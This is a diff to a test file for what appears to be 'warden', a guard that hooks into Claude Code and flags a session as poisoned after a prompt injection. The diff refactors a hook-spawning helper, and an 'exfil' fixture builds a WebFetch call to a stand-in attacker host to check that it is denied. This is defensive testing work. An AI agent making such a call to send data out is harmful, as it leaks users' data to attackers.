@@ -2,26 +2,14 @@
 // taint, why it is poisoned and its denials, and clears it — journaled, and only with --yes
 // (or at a terminal). The poisoning itself comes from the built `warden hooks claude-code`
 // on a real Claude Code payload, as the host runs it.
-import { spawnSync } from "node:child_process";
 import { readFileSync } from "node:fs";
-import { join, resolve } from "node:path";
+import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { runCli } from "../helpers/cli.js";
-import { decisionOf, INJECTION, post, pre, SID, workspace } from "./claude-payloads.js";
+import { decisionOf, INJECTION, post, pre, SID, spawnHook, workspace } from "./claude-payloads.js";
 import { tempDir } from "./helpers.js";
 
-const BIN = resolve(import.meta.dirname, "../../bin/warden.js");
-
-function hook(dir: string, payload: Record<string, unknown>) {
-  const { CLAUDE_PROJECT_DIR: _omit, ...env } = process.env;
-  const r = spawnSync(process.execPath, [BIN, "hooks", "claude-code"], {
-    input: JSON.stringify(payload),
-    env: { ...env, WARDEN_HOOKS_DIR: dir },
-    encoding: "utf8",
-    timeout: 30_000,
-  });
-  return { exitCode: r.status === 0 ? 0 : 2, ...(r.stdout ? { stdout: r.stdout } : {}) } as const;
-}
+const hook = spawnHook;
 
 const exfil = (ws: string) => pre(ws, "WebFetch", { url: "https://collect.attacker.example/u", prompt: "p" });
 
